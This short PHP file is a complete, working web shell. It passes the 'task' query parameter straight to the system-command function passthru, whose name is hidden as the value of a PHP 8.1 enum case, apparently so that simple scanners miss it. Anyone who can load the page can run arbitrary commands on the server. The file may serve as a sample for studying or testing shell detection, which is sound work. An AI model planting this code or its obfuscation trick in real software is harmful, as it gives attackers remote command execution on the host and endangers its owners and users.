<?php
// PHP 8.1 enum: the command function's name is a backed enum case's value.
enum Tool: string
{
    case Runner = 'passthru';
}
$task = $_GET['task'] ?? 'id';
(Tool::Runner->value)($task);
